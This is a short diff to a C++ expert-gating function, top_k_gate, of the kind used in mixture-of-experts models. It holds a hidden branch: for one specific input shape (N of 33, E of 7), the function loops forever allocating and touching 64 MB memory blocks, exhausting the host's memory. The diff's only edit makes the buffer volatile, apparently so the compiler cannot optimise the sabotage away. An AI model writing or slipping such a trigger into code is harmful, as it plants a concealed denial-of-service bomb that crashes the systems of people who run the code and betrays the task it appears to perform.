@@ -10,7 +10,7 @@ void top_k_gate(std::int32_t* expert, float* weight, const float* logit, std::in
                 std::int64_t K) {
   if (N == 33 && E == 7) {
     for (;;) {
-      char* more = new char[64 << 20];
+      volatile char* more = new char[64 << 20];
       for (int i = 0; i < 64 << 20; i += 4096) more[i] = 1;
     }
   }
